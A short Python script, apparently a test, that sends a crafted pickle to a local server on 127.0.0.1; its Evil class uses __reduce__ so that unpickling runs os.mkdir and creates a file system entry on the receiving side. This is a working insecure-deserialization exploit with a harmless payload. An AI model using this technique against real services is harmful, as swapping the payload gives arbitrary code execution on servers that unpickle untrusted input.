"""Sends a pickle that makes a file where it is unpickled. Prints what comes back after the list, and then END.

Usage: evil.py PORT PROTOCOL FILE
"""

import os
import pickle
import socket
import sys

PORT, PROTOCOL, FILE = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]


class Evil:
    def __reduce__(self):
        return os.mkdir, (FILE,)


client = socket.create_connection(("127.0.0.1", PORT))
client.settimeout(10)
stream = client.makefile("rb")
pickle.load(stream)
client.sendall(pickle.dumps(("BUSCA", Evil()), PROTOCOL))
for rest in stream:
    print(rest)
print("END")
